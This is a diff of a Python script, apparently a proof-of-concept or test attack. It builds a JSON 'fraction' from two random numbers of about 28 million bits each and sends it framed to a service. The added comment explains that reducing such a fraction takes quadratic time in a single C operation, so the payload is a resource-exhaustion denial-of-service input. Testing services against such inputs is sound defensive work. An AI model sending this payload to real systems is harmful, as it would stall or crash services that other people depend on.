@@ -5,11 +5,14 @@
 # output = "attack: sent a fraction of 2 numbers of 7 MB"
 # ///
 import os
+import random
 import time
 
 
 def f(x):
-    value = b'{"fraction":["0x' + b"7" * 7_000_000 + b'","0x' + b"9" * 6_999_999 + b'"]}'
+    # Reducing it takes quadratic time, in one long operation in C.
+    above, below = (b"%x" % random.Random(seed).getrandbits(28_000_000) for seed in (1, 2))
+    value = b'{"fraction":["' + above + b'","' + below + b'"]}'
     payload = b"R" + len(value).to_bytes(4, "big") + value
     view = memoryview(len(payload).to_bytes(4, "big") + payload)
     while view:
